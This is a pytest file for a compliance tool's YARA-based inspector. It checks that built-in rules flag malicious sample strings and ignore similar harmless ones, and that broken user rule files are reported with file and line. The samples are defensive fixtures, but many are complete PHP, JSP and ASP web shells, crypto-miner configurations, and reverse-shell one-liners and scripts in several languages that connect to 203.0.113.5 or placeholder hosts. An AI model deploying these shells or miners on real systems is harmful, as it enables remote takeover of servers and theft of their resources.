"""The shipped rules know what they are for and nothing near it; the user's rules are told apart, with file and line."""

from __future__ import annotations

from pathlib import Path

import pytest

from soc2.detectors.secrets import Scanner
from soc2.errors import UsageError
from soc2.gather.registry.inspection import Inspector, image_rules
from soc2.gather.registry.secrets import ScannedSecrets
from soc2.gather.registry.yara_rules import load_rules
from tests.registry.pulling import EICAR

INSPECTOR = Inspector(image_rules(), ScannedSecrets(Scanner()))
# What must not stand in a repository as it is stands in here without its middle.
MALICIOUS = {
    "mining_pool": [
        '{"url": "stratum+tcp://pool.example.org:3333"}',
        "pool = stratum+tcp://xmr.pool.example",
        "exec miner -o stratum+ssl://eu.pool.example:443 -u wallet",
        "ethminer -P stratum://0xabc.worker@eth.pool.example:4444",
    ],
    "mining_program": [
        "\x7fELF\0\0donate-level\0randomx\0",
        "\x7fELF\0\0stratum+tcp://%s:%d\0cryptonight\0",
        "MZ\0\0T-Rex NVIDIA GPU miner\0kawpow\0",
    ],
    "mining_page": [
        '<script>var m = new CoinHive.Anonymous("KEY"); m.start();</script>',
        '<script>var m = new CoinHive.Anonymous("key"); m.start();</script>',
        '<script src="/a/deepminer.min.js">',
    ],
    "hidden_php": [
        "<?php eval(base64_decode('ZXZhbCgkX1BPU1RbMV0pOw=='));",
        "<?php eval(gzinflate(base64_decode('S0ktS8zRKAYA')));",
        '<?php @eval ( base64_decode("ZXZhbCgpOw==") );',
    ],
    "mining_configuration": [
        '{"pools": [{"algo": "rx/0", "coin": "monero", "url": "a:1"}], "donate-level": 1}',
        "./xmrig --threads=4 -o pool.example:3333 -u 4Axx",
        '{"pools": [{"coin": "XMR", "url": "pool:1", "user": "w"}]}',
        '{"pools": [{"algo": null, "url": "pool:1", "user": "w"}]}',
        "{'pools': [{'url': 'pool:3333', 'user': '4" + "A" * 94 + "'}]}",
        "pools:\n  - url: pool:3333\n    algo: rx/0\n",
        "lolMiner --algo ETHASH --pool eth.pool.example:4444 --user w",
        '"pool_list": [{"pool_address" : "pool.example:5555", "wallet_address" : "48x", "rig_id" : ""}]',
        "./lolMiner --algo ETCHASH --pool pool.example:1010 --user 0x",
    ],
    "web_shell_php": [
        "<?php @eval(base64_decode($_POST['c'])); ?>",
        '<?php system($_GET["cmd"]);',
        "<?= `$_GET[0]` ?>",
        "<?php $_GET['f']($_POST['a']);",
        "<?php assert ( $_REQUEST['x'] );",
        "<?php preg_replace('/.*/e', $_POST['c'], '');",
        "<?php eval(gzinflate(base64_decode($_COOKIE['p'])));",
        "<?php $cmd = $_GET['cmd']; system($cmd); ?>",
        "<?php if (isset($_REQUEST['c'])) { $c = ($_REQUEST['c']); echo shell_exec($c); }",
        "<?php $f=$_GET['f'];$f($_GET['x']);",
        "<?php call_user_func($_GET['f'], $_GET['a']);",
        "<?php array_map('assert', array($_POST['x']));",
        "<?php create_function('', $_POST['c'])();",
        "<?php system(\"{$_GET['c']} 2>&1\");",
        "<?php eval(file_get_contents('php://input'));",
        "<?php if (isset($_REQUEST['cmd'])) {\n  $cmd = ($_REQUEST['cmd']);\n  echo '<pre>';\n  system($cmd);\n}",
        "<?=`{$_GET[0]}`?>",
        '<?php $f = create_function("", $_POST["x"]); $f();',
        '<?php array_map("assert", (array)$_POST["x"]);',
        '<?php call_user_func($_GET["a"], $_GET["b"]);',
        '<?php eval("?>" . base64_decode($_POST["z"]));',
        "<?php ($_=@$_GET[2]).@$_($_GET[1]);",
    ],
    "web_shell_jsp": [
        '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>',
        '<%@ page %><% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>',
        '<% new ProcessBuilder("sh", "-c", request.getParameter("c")).start(); %>',
        '<% new java.lang.ProcessBuilder(new String[]{"sh", "-c", request.getParameter("q")}).start(); %>',
        '<% String c = request.getHeader("X-C"); Runtime.getRuntime().exec(c); %>',
    ],
    "web_shell_asp": [
        '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>',
        '<% Execute(Request("c")) %>',
        '<%@ Page Language="C#" %> p = new ProcessStartInfo(); p.Arguments = "/c " + Request.Form["c"]; Process.Start(p);',
        '<% Set o = Server.CreateObject("WScript.Shell"): o.Exec("cmd /c " & Request.QueryString("c")) %>',
        '<% Set o = Server.CreateObject("WSCRIPT.SHELL"): o.exec("cmd /c " & Request.QueryString("c")) %>',
        '<% var p = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["x"]); Process.Start(p); %>',
        '<%execute request("a")%>',
    ],
    "reverse_shell_command": [
        'BEGIN {s = "/inet/tcp/0/h/1"; do { s |& getline c; while ((c |& getline) > 0) print $0 |& s } while (1)}',
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "sh -i 5<> /dev/udp/c2.example/53 0<&5 1>&5 2>&5",
        "0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196",
        "nc -e /bin/sh 203.0.113.5 4444",
        "/bin/bash -l > /dev/tcp/203.0.113.5/4444 0<&1 2>&1",
        "exec /bin/sh 0</dev/tcp/203.0.113.5/4444 1>&0 2>&0",
        "exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "mkfifo /tmp/p; nc 203.0.113.5 4444 0</tmp/p | /bin/bash >/tmp/p 2>&1",
        "socat OPENSSL:203.0.113.5:443,verify=0 EXEC:/bin/bash",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh",
        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/44\"; while (1) { while ((c |& getline) > 0) print |& s } }'",
        "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        "ncat --exec /bin/bash 203.0.113.5 4444",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
        "socat exec:'bash -li',pty,stderr tcp:203.0.113.5:4444",
        "/bin/bash -l > /dev/tcp/203.0.113.5/4242 0<&1 2>&1",
        "exec 5<>/dev/tcp/203.0.113.5/4242;cat <&5 | while read line; do $line 2>&5 >&5; done",
        "mknod p p && nc 203.0.113.5 443 0<p | /bin/bash 1>p",
        "nc 203.0.113.5 4242|/bin/sh|nc 203.0.113.5 4243",
        "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash",
        "socat OPENSSL:203.0.113.5:443,verify=0 EXEC:/bin/bash",
        'php -r \'$s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    ],
    "reverse_shell_script": [
        "import socket,subprocess,os\ns=socket.socket()\ns.connect(('203.0.113.5',4444))\nos.dup2(s.fileno(),0)\n"
        "os.dup2(s.fileno(),1)\nimport pty; pty.spawn('/bin/bash')\n",
        "import socket,subprocess,os;s=socket.socket();s.connect((h,p));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
        'subprocess.call(["/bin/sh","-i"])',
        'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");',
        "import socket, subprocess as sp; c.connect(('h',1)); sp.Popen('/bin/sh', stdin=c, stdout=c, stderr=c)",
        "s.connect(('h', 1))\nwhile True:\n  c = s.recv(1024).decode()\n  s.send(subprocess.getoutput(c).encode())\n",
        "$p=fork;$c=new IO::Socket::INET(PeerAddr,'h:1');STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
        'spawn("sh",[:in,:out,:err]=>TCPSocket.new("h",1))',
        'var sh = cp.spawn("/bin/sh", []); var c = new net.Socket(); c.pipe(sh.stdin); sh.stdout.pipe(c);',
        'c, _ := net.Dial("tcp", "h:1"); cmd := exec.Command("/bin/sh"); cmd.Stdin = c; cmd.Stdout = c; cmd.Run()',
        "$c=[System.Net.Sockets.TcpClient]::new('h',1);$s=$c.GetStream();IEX $d",
        "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',4444);$s = $c.GetStream();iex $d",
        "$c = [System.Net.Sockets.TcpClient]::new('203.0.113.5',4444);$s = $c.GetStream();Invoke-Expression $d",
        's.connect(("203.0.113.5",9))\np=subprocess.Popen(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno())\n',
        '$c=new IO::Socket::INET(PeerAddr,"203.0.113.5:44");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;',
        'c=TCPSocket.new("203.0.113.5","44");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
        '$sock=fsockopen("203.0.113.5",44);proc_open("/bin/sh -i",[$sock,$sock,$sock],$pipes);',
        'Process p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();Socket s=new Socket(host,port);',
        'var net=require("net"),sh=cp.spawn("/bin/sh",[]),c=new net.Socket();c.connect(44,"c2",()=>{c.pipe(sh.stdin)})',
        'c,_:=net.Dial("tcp","203.0.113.5:44");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()',
    ],
}
OURS = 'rule ours { meta: description = "our own" strings: $a = "northwind" condition: $a }'
HARMLESS = [
    "curl -fsS http://localhost:8080/health || exit 1",
    "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.1' >&3; cat <&3",
    "- macro: mining\n  condition: proc.cmdline contains stratum+tcp",
    "The protocol stratum+tcp is described elsewhere; randomx is an algorithm, and xmrig a program.",
    "<?php echo htmlspecialchars($_POST['name']); ?>",
    "<?php $statement = $db->exec($_GET); $x = curl_exec($handle); ?>",
    '<% String name = request.getParameter("name"); out.println(name); %>',
    "Process p = Runtime.getRuntime().exec(command);",
    "import socket\ns.connect(('db', 5432))\nos.dup2(log.fileno(), 1)\nsubprocess.run(['/usr/bin/env'])\n",
    "nc -z db 5432 && echo ready",
    "nc -l 8080 > /dev/null; bash -i",
    "socat TCP-LISTEN:80,fork TCP:backend:8080",
    "eval(parser.read()); assert(x == $_ENV['A'])",
    "func (c *client) Eval(ctx context.Context, in *EvalRequest\n\t(opts))",
    "<?php $name = $_GET['name']; $rows = $db->exec($name); echo curl_exec($c);",
    "<?php $c = $_GET['c']; show($c); system('date');",
    "<?php eval(base64_decode($stored));",
    'new ProcessStartInfo("cmd.exe", "/c dir"); var x = Request["a"];',
    "socat TCP-LISTEN:80,fork EXEC:/usr/local/bin/handler",
    "nc -z db 5432 | tee log; bash run.sh > out",
    "exec 3<>/dev/tcp/db/5432; while read line; do echo $line; done < list",
    "s.connect(('db', 1)); d = s.recv(1024); subprocess.Popen(['/bin/sh', '-c', 'date'], stdin=None)",
    'conn, _ := net.Dial("tcp", a); cmd := exec.Command("/bin/sh", "-c", script); cmd.Stdin = input\n',
    'spawn("/bin/sh", ["-c", x]); net.connect(80); a.pipe(b.stdin)',
    '{"pools": [{"name": "default", "size": 4}]} "user": "4"',
    "./gminer-docs --help; ./server --algo rr --port 80",
    "connect(socket, &address); open(STDIN, '<', '/dev/null'); exec('/bin/true')",
    '{"pools": [{"name": "default", "algo": null}]}',
    "while ! (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec bash -i",
    "socat UNIX-LISTEN:/run/a,fork EXEC:'ssh host'",
    "<?php $cmd = escapeshellarg($_GET['x']); $file = $_GET['f']; echo htmlspecialchars($file); ?>",
    "<form action='<%= Request[\"x\"] %>'>",
    "kubectl exec -it pod -- bash -i; docker exec -i x sh -i < /dev/null",
    'conn, err := net.Dial("tcp", address); cmd := exec.Command("git", "pull"); cmd.Stdin = input',
]


@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in MALICIOUS.items() for text in texts])
def test_malicious_texts_are_known(rule: str, text: str) -> None:
    assert rule in {name for name, _ in INSPECTOR.inspect("srv/file", text.encode("latin-1")).rules}


@pytest.mark.parametrize("text", [*HARMLESS, EICAR.decode() + "x" * 61, "x" + EICAR.decode()])
def test_harmless_texts_are_not(text: str) -> None:
    assert INSPECTOR.inspect("srv/file", text.encode()).rules == ()


def test_the_test_file_is_known_with_blanks_behind_it() -> None:
    for end in (b"", b"\n", b"\r\n", b" " * 60):
        assert INSPECTOR.inspect("a", EICAR + end).rules == (("eicar_test_file", "test file for scanners of malware"),)


def test_rules_of_the_user_are_asked_too(tmp_path: Path) -> None:
    (tmp_path / "below").mkdir()
    (tmp_path / "below" / "ours.yara").write_text(
        'rule ours { meta: description = "our own" strings: $a = "northwind" condition: $a }'
    )
    # The same name in another file is another rule.
    (tmp_path / "more.yar").write_text("rule ours { condition: false }")
    inspector = Inspector(image_rules((str(tmp_path),)), ScannedSecrets(Scanner()))
    assert inspector.inspect("a", b"northwind").rules == (("ours", "our own"),)
    assert load_rules((str(tmp_path),)).key != load_rules().key


@pytest.mark.parametrize(
    ("source", "line", "what"),
    [
        (
            "rule a {\n  condition:\n    x\n}\n",
            3,
            "no valid YARA rule: unknown identifier `x`: this identifier has not been declared",
        ),
        ("rule a { condition: true }\nrule a { condition: true }\n", 2, "no valid YARA rule: duplicate rule `a`"),
        ("\n\nrule a { strings: $a = /(/ condition: $a }", 3, "no valid YARA rule: invalid regular expression"),
        ('include "other.yar"\n', 1, "no valid YARA rule: "),
        ("<html>", 1, "no valid YARA rule: syntax error"),
    ],
)
def test_a_broken_rule_is_told_with_file_and_line(tmp_path: Path, source: str, line: int, what: str) -> None:
    file = tmp_path / "broken.yar"
    file.write_text(source)
    with pytest.raises(UsageError) as raised:
        load_rules((str(tmp_path),))
    assert (raised.value.file, raised.value.line) == (file, line)
    assert raised.value.what.startswith(what)


def test_a_rule_that_is_no_text_is_told(tmp_path: Path) -> None:
    (tmp_path / "broken.yar").write_bytes(b"\xff\xfe")
    with pytest.raises(UsageError, match=r"broken\.yar: cannot be read"):
        load_rules((str(tmp_path),))
